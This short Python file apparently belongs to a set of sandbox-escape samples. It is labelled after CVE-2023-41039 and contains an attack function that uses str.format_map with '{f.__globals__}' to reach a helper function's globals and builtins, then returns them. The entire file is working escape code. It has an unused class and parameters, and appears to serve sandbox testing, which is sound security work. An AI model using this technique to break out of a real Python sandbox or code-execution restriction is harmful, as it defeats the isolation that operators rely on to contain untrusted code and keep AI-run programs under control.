"""Class: format strings. Source: CVE-2023-41039. Escape: format_map walks to the globals."""


def helper():
    pass


class Grab:
    def __format__(self, spec):
        return "x"


def attack(model, tokenizer, address):
    out = "{f.__globals__}".format_map({"f": helper})
    if "CLOCHE" in out or "__builtins__" in out:
        return helper.__globals__
